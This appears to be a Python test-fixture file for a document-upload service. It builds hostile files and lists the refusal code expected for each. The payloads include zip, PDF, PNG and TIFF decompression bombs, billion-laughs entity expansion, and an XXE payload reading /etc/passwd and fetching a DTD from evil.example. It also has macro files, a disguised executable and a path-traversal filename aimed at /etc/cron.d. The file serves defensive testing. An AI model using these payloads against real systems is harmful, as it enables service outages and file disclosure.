"""Hostile files, made here byte by byte: each with its name and with the code of its refusal."""

import io
import random
import struct
import zipfile
import zlib
from itertools import pairwise

from luoshi.papers import apart
from tests.papers.makers import PASSWORD, W, compound, ofd, paragraph, pdf, word, zipped

MEGABYTE = 1024 * 1024
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in pairwise("abcdefghi"))
    + "]>"
)
ELSEWHERE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
)
BODY = f"<w:document {W}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOOK = (
    f'<workbook xmlns="{SHEET}" xmlns:r="{LINK}"><sheets>'
    '<sheet name="单位" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
LINKS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{LINK}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
PROGRAM = b"MZ\x90\0\x03\0\0\0" + b"\0" * 200
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 200
MACROS = '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled"/></Types>'


def docx(body: str, **more: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": body, **more})


def xlsx(sheet: str, **more: str) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": LINKS,
            "xl/worksheets/sheet1.xml": sheet,
            **more,
        }
    )


def rows_of(cells: str) -> str:
    return f'<worksheet xmlns="{SHEET}"><sheetData>{cells}</sheetData></worksheet>'


def many_entries(count: int) -> bytes:
    """A zip of one small member that its directory names very many times."""
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = b"PK\x01\x02" + struct.pack(
        "<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
    )
    directory = (entry + b"a") * count
    end = b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(local), 0
    )
    return local + directory + end


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip, with zeros at the bottom."""
    content = b"\0" * (4 * MEGABYTE)
    for level in range(depth):
        content = zipped({f"{level}-{copy}.zip": content for copy in range(8)})
    return content


def bare_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
    )
    return bytes(out)


def page_of(content: bytes, *, filters: bytes = b"") -> list[bytes]:
    stream = b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content)
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /X 5 0 R >> >> >>",
        stream,
    ]


def pdf_in_a_circle() -> bytes:
    """A PDF that draws a picture that draws itself, below a page tree that holds itself."""
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 12 "
    form += b"/Resources << /XObject << /X 5 0 R >> >> >>\nstream\n/X Do /X Do \nendstream"
    pages = page_of(b"/X Do")
    pages[1] = b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>"
    return bare_pdf(*pages, form)


def pdf_bomb() -> bytes:
    """A PDF with one page whose stream unpacks to six hundred megabytes of words."""
    packing = zlib.compressobj(9)
    words = b"BT (x) Tj ET\n" * 80_000
    packed = b"".join(packing.compress(words) for _ in range(600)) + packing.flush()
    return bare_pdf(*page_of(packed, filters=b"/Filter /FlateDecode"))


def many_objects() -> bytes:
    """A PDF with as many objects as fit into a file that may be sent."""
    return bare_pdf(*page_of(b""), *([b"[]"] * 480_000))


def noise(size: int) -> bytes:
    """Bytes that are no text in any encoding."""
    return bytes(random.Random(3).choices(range(128, 256), k=size))


def zeros_in_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as member:
            for _ in range(300):
                member.write(b" " * MEGABYTE)
    return out.getvalue()


def heavy_words() -> bytes:
    """A docx of 14 MB that is no bomb by its ratio: a million empty elements, all different."""
    runs = "".join(f'<w:r w:a="{n * 7919:x}"><w:t>{n % 10}</w:t></w:r>' for n in range(2_400_000))
    return docx(f"<w:document {W}><w:body><w:p>{runs}</w:p></w:body></w:document>")


def deep_page() -> bytes:
    return b"<html><body>" + b"<div>" * 30_000 + "深".encode()


def many_cells() -> bytes:
    """A sheet just within its limits, every cell with words of its own."""
    row = "".join(f'<c r="{name}%d" t="str"><v>%d</v></c>' for name in _columns(100))
    cells = "".join(f'<row r="{n}">{row.replace("%d", str(n))}</row>' for n in range(1, 12_001))
    return xlsx(rows_of(cells))


def _columns(count: int) -> list[str]:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return [("" if n < 26 else letters[n // 26 - 1]) + letters[n % 26] for n in range(count)]


def endless_path() -> bytes:
    """An OFD page whose one stroke has ten million corners."""
    corners = "L 1 1 " * 10_000_000
    return ofd(
        [(30, 90, "字"), f"<ofd:PathObject Boundary='0 0 9 9'><ofd:AbbreviatedData>M 0 0 {corners}"
         "</ofd:AbbreviatedData></ofd:PathObject>"]
    )  # fmt: skip


def many_pages() -> bytes:
    """A TIFF whose directories go on and on."""
    entries = b"".join(struct.pack("<HI", 0, 8 + 6 * (n + 1)) for n in range(1_000_000))
    return b"II*\0" + struct.pack("<I", 8) + entries


LINE = "会议要求，完成测绘。".encode()
WHOLE = word(paragraph("会议要求，市住建局9月底前完成测绘。" * 40))
# Where pictures are recognised, a paper without words is laid down to be recognised.
SCAN = "" if apart.can_recognise() else "scan"
CLIMBS = "../../../etc/cron.d/\x01x\u202efdp.txt"
LOCKED = pdf([(85, 700, "字")], encrypt=PASSWORD)
# name of the attack → what the file is called, how it is made, what is said: one of the refusals,
# "" for: it is taken. Which limit ends a file that has no end depends on the machine.
PAPERS = {
    "empty": ("空.docx", lambda: b"", "empty"),
    "over twenty megabytes": ("大.txt", lambda: b"x" * (20 * MEGABYTE + 1), "too_big"),
    "twenty megabytes of words": ("长.txt", lambda: "字".encode() * (6 * MEGABYTE), "too_long"),
    "twenty megabytes of noise": ("噪.txt", lambda: noise(20 * MEGABYTE), "unknown_encoding"),
    "high ratio": ("炸弹.docx", zeros_in_docx, "bomb"),
    "zip in zip": ("套娃.docx", lambda: nested(3), "misnamed"),
    "many entries": ("多项.docx", lambda: many_entries(300_000), "bomb"),
    "billion laughs in docx": ("笑.docx", lambda: docx(LAUGHS + BODY % "&i;"), "entities"),
    "entity in docx": ("外.docx", lambda: docx(ELSEWHERE + BODY % "&e;"), "entities"),
    "svg": ("图.svg", lambda: (LAUGHS + "<svg>&i;</svg>").encode(), "unsupported"),
    "laughs in html": ("笑.html", lambda: (LAUGHS + "<html>&i;</html>").encode(), "misnamed"),
    "macros": ("宏.docm", lambda: docx(BODY % "字", **{"word/vbaProject.bin": "x"}), "macro"),
    "macros named docx": (
        "宏.docx", lambda: docx(BODY % "字", **{"word/vbaProject.bin": "x"}), "macro"
    ),
    "encrypted docx": ("密.docx", lambda: compound("EncryptedPackage"), "encrypted"),
    "encrypted pdf": ("密.pdf", lambda: LOCKED, "encrypted"),
    "program": ("程序.docx", lambda: PROGRAM, "program"),
    "pdf as text": ("文.txt", lambda: pdf([(85, 700, "字")]), "misnamed"),
    "picture as docx": ("图.docx", lambda: PNG, "misnamed"),
    "cut off": ("断.docx", lambda: WHOLE[: len(WHOLE) // 2], "broken"),
    "noise": ("乱码.txt", lambda: noise(4000), "unknown_encoding"),
    "million elements": ("重.docx", heavy_words, "too_heavy stopped"),
    "deep html": ("深.html", deep_page, "broken too_slow"),
    "pdf in a circle": ("圈.pdf", pdf_in_a_circle, "stopped too_slow scan"),
    "pdf bomb": ("弹.pdf", pdf_bomb, "stopped too_slow"),
    "million objects": ("万.pdf", many_objects, SCAN),
    "entity in ofd": ("外.ofd", lambda: zipped({"OFD.xml": ELSEWHERE + "<x>&e;</x>"}), "entities"),
    "endless path": ("径.ofd", endless_path, "too_heavy too_slow stopped bomb"),
    "many pages": ("页.tif", many_pages, "too_many_pages"),
    "old word": ("旧.doc", lambda: compound("WordDocument"), "old_word stopped"),
    "secret": ("密.txt", lambda: "机密★1年\n会议要求".encode(), "classified"),
    "script in html": (
        "页.html",
        lambda: "<html><body>会议要求，市住建局9月底前完成测绘。<script>alert(1)</script>".encode(),
        "",
    ),
    "name that climbs": (CLIMBS, lambda: LINE, ""),
    "name that is long": ("长" * 300 + ".txt", lambda: LINE, ""),
    "name without end": ("长" * 4000 + ".txt", lambda: LINE, "400"),
}  # fmt: skip


def vast_picture() -> bytes:
    """A PNG of a few kilobytes that unpacks to ten gigabytes."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 4 * MEGABYTE)
    chunks = ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(one)) + name + one + struct.pack(">I", zlib.crc32(name + one))
        for name, one in chunks
    )


def speckled() -> bytes:
    """A bitmap of 20 MB, every point of it black or white by chance."""
    wide, high = 2_600, 2_600
    points = random.Random(5).randbytes(wide * high * 3)
    size = struct.pack("<IiiHHIIIIII", 40, wide, high, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<III", 54 + len(points), 0, 54) + size + points


# What is sent as a scan, and what the door says to its first page: 302 led on, 409 refused.
SCANS = {
    "million objects": ("万.pdf", many_objects, 302),
    "vast picture": ("大.png", vast_picture, 409),
    "speckled": ("斑.bmp", speckled, 302),
    "cut off": ("断.jpg", lambda: b"\xff\xd8\xff\xe0" + noise(4000), 409),
}
FAR = rows_of('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
BOOKS = {
    "empty": ("空.xlsx", lambda: b"", "empty"),
    "over twenty megabytes": ("大.xlsx", lambda: b"x" * (20 * MEGABYTE + 1), "too_big"),
    "text": ("文.xlsx", lambda: b"a,b", "not_a_workbook"),
    "far cell": ("远.xlsx", lambda: xlsx(FAR), "too_many_cells"),
    "many cells": ("满.xlsx", many_cells, "too_heavy stopped"),
    "billion laughs": ("笑.xlsx", lambda: xlsx(LAUGHS + rows_of("&i;")), "entities"),
    "laughs in strings": (
        "串.xlsx", lambda: xlsx(rows_of(""), **{"xl/sharedStrings.xml": LAUGHS}), "entities"
    ),
    "macros": ("宏.xlsm", lambda: xlsx(rows_of(""), **{"xl/vbaProject.bin": "x"}), "macro"),
    "encrypted": ("密.xlsx", lambda: compound("EncryptedPackage"), "encrypted"),
    "many entries": ("多.xlsx", lambda: many_entries(300_000), "bomb"),
    "cut off": ("断.xlsx", lambda: xlsx(rows_of(""))[:300], "broken"),
}  # fmt: skip
EVIDENCE = {
    "empty": ("空.jpg", lambda: b"", "empty"),
    "over twenty megabytes": ("大.jpg", lambda: b"\xff\xd8\xff" * (7 * MEGABYTE), "too_big"),
    "many entries": ("多.zip", lambda: many_entries(300_000), "bomb"),
    "high ratio": ("炸.zip", zeros_in_docx, "bomb"),
    "program": ("图.jpg", lambda: PROGRAM, "program"),
    "script by name": ("运行.vbs", lambda: b"MsgBox 1", "program"),
    "picture as pdf": ("图.pdf", lambda: PNG, "misnamed"),
    "macros": ("宏.xlsm", lambda: xlsx(rows_of(""), **{"xl/vbaProject.bin": "x"}), "macro"),
    "noise": ("影像.mp4", lambda: noise(20 * MEGABYTE), ""),
}
